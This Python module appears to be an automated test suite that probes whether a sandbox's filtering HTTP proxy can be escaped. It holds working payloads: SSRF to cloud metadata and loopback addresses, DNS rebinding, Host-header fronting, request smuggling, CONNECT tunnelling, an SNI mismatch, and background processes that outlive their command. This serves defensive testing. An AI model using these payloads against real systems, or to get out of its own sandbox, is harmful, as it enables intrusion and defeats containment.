"""The way out: to hosts that nobody opened, by whatever a proxy could be made to believe. Judged by who heard it."""

from lab.escape.attack import Attack, Scene, heard, python

_RAW = """
import socket, sys, time
def say(*texts, wait=0.4):
    s = socket.create_connection(("127.0.0.1", 3128), 5); s.settimeout(2)
    for text in texts:
        s.sendall(text)
        time.sleep(wait)
        try:
            print(s.recv(65536).decode("latin-1"))
        except OSError as error:
            print(error)
    return s
"""
_OPEN = ("allowed.test",)


def _raw(code: str) -> str:
    return python(_RAW + code)


def _get(url: str, *headers: str) -> str:
    lines = "".join(f"{line}\\r\\n" for line in headers)
    return f"b'GET {url} HTTP/1.1\\r\\n{lines}X-Mark: @{{mark}}\\r\\n\\r\\n'"


def _curl(url: str) -> str:
    return f"curl -sS -m 4 -H 'X-Mark: @{{mark}}' {url}"


def _is_fronted(scene: Scene) -> bool:
    return any("forbidden.test" in got.header("host") for got in scene.host.sites["allowed.test"].got)


def _asked_in_secret(scene: Scene) -> bool:
    return any(got.target.startswith("/secret") for got in scene.host.sites["guarded.test"].got)


def _is_hidden(scene: Scene) -> bool:
    return "hidden.test" in scene.host.snis


def _is_oversized(scene: Scene) -> bool:
    return any(len(got.header("x-long")) > 400_000 for got in scene.host.sites["allowed.test"].got)


def _to(name: str, url: str, listener: str, *hosts: str) -> Attack:
    return Attack(name=name, command=_curl(url), judge=heard(listener), hosts=hosts or _OPEN)


_POST = (
    "say(b'POST http://guarded.test/open HTTP/1.1\\r\\nHost: guarded.test\\r\\nContent-Length: %d\\r\\n{}\\r\\n\\r\\n' % len(body) + body)"
)
_CL_TE = "body = b'0\\r\\n\\r\\nGET /secret HTTP/1.1\\r\\nHost: guarded.test\\r\\nX-Mark: @{mark}\\r\\n\\r\\n'\n" + _POST.format(
    "Transfer-Encoding: chunked"
)
_TWO_LENGTHS = "body = b'GET /secret HTTP/1.1\\r\\nHost: guarded.test\\r\\n\\r\\n'\n" + _POST.format("Content-Length: 0")
_KEPT = f"say({_get('http://allowed.test/', 'Host: allowed.test')}, {_get('http://forbidden.test/', 'Host: forbidden.test')})"
_TUNNEL = (
    "say(b'CONNECT {where} HTTP/1.1\\r\\nHost: {where}\\r\\n\\r\\n', b'GET / HTTP/1.1\\r\\nHost: x\\r\\nX-Mark: @{{mark}}\\r\\n\\r\\n')"
)
_SNI = """
s = say(b'CONNECT tls.test:443 HTTP/1.1\\r\\n\\r\\n')
import ssl
context = ssl._create_unverified_context()
context.wrap_socket(s, server_hostname='hidden.test')
"""
_LONG = "say(b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Long: ' + b'x' * 500000 + b'\\r\\n\\r\\n', wait=1)"
_WAITS = (
    "(setsid sh -c 'for n in $(seq 30); do curl -s -m 1 -H \"X-Mark: @{mark}\" http://allowed.test/; sleep 0.1; done' >/dev/null 2>&1 &)"
)

ATTACKS = (
    _to("a host that is not open", "http://forbidden.test/", "public"),
    _to("a name that means this machine", "http://inner.test/", "loopback-web", "inner.test"),
    _to("a name that means the cloud's metadata", "http://metadata.test/", "metadata", "metadata.test"),
    _to("a name with a good and a bad address", "http://mixed.test/", "loopback-web", "mixed.test"),
    _to("a name that means this machine, in IPv6", "http://mapped.test/", "loopback-web", "mapped.test"),
    _to("the machine's services by address", "http://10.99.0.1:8099/", "own"),
    _to("the metadata by address", "http://169.254.169.254/", "metadata"),
    _to("another port of an open host", "http://public.test:8080/", "public-other-port", "public.test"),
    _to("a redirect elsewhere", "-L 'http://allowed.test/redirect?to=http://forbidden.test/'", "public"),
    Attack(
        name="a name that changes its address",
        command=f"for n in 1 2 3 4; do {_curl('http://rebind.test/')}; done",
        judge=heard("loopback-web"),
        hosts=("rebind.test",),
    ),
    Attack(name="loopback through the proxy", command=_raw(f"say({_get('http://127.0.0.1:8099/')})"), judge=heard("loopback"), hosts=_OPEN),
    Attack(
        name="loopback in another spelling",
        command=_raw(
            "".join(f"say({_get(f'http://{name}:8099/')}, wait=0.1)\n" for name in ("0x7f000001", "2130706433", "127.1", "localhost"))
        ),
        judge=heard("loopback"),
        hosts=_OPEN,
    ),
    Attack(
        name="fronting by the Host header",
        command=_raw(f"say({_get('http://allowed.test/', 'Host: forbidden.test')})"),
        judge=_is_fronted,
        hosts=_OPEN,
    ),
    Attack(
        name="two Host headers",
        command=_raw(f"say({_get('http://allowed.test/', 'Host: allowed.test', 'Host: forbidden.test')})"),
        judge=_is_fronted,
        hosts=_OPEN,
    ),
    Attack(name="another host on a kept connection", command=_raw(_KEPT), judge=heard("public"), hosts=_OPEN),
    Attack(name="two requests in one: length and chunks", command=_raw(_CL_TE), judge=_asked_in_secret, hosts=("guarded.test",)),
    Attack(name="two requests in one: two lengths", command=_raw(_TWO_LENGTHS), judge=_asked_in_secret, hosts=("guarded.test",)),
    Attack(name="a path that is not open", command=_curl("http://guarded.test/secret"), judge=_asked_in_secret, hosts=("guarded.test",)),
    Attack(
        name="a path that is not open, with dots",
        command=_curl("--path-as-is http://guarded.test/secret/../open http://guarded.test/open/%2e%2e/secret"),
        judge=lambda scene: any("secret" in got.target for got in scene.host.sites["guarded.test"].got),
        hosts=("guarded.test",),
    ),
    Attack(name="tunnel to an address", command=_raw(_TUNNEL.format(where="10.99.0.1:8099")), judge=heard("own"), hosts=_OPEN),
    Attack(name="tunnel to loopback", command=_raw(_TUNNEL.format(where="127.0.0.1:8099")), judge=heard("loopback"), hosts=_OPEN),
    Attack(
        name="tunnel to another port",
        command=_raw(_TUNNEL.format(where="public.test:8080")),
        judge=heard("public-other-port"),
        hosts=("public.test",),
    ),
    Attack(name="tunnel without TLS", command=_raw(_TUNNEL.format(where="public.test:80")), judge=heard("public"), hosts=("public.test",)),
    Attack(name="another name inside of TLS", command=_raw(_SNI), judge=_is_hidden, hosts=("tls.test",)),
    Attack(name="a very long head", command=_raw(_LONG), judge=_is_oversized, hosts=_OPEN),
    Attack(name="an open host, without having asked", command=_curl("http://allowed.test/"), judge=heard("allowed.test")),
    Attack(
        name="wait for another's opening",
        command=_WAITS,
        judge=heard("allowed.test"),
        then=("sleep 1", ("other.test",)),
        needs_new_box=True,
        settle_s=0.5,
    ),
    Attack(
        name="go on after the command's end",
        command=_WAITS.replace("for n", "sleep 0.5; for n"),
        judge=heard("allowed.test"),
        hosts=_OPEN,
        needs_new_box=True,
        settle_s=2.0,
    ),
)
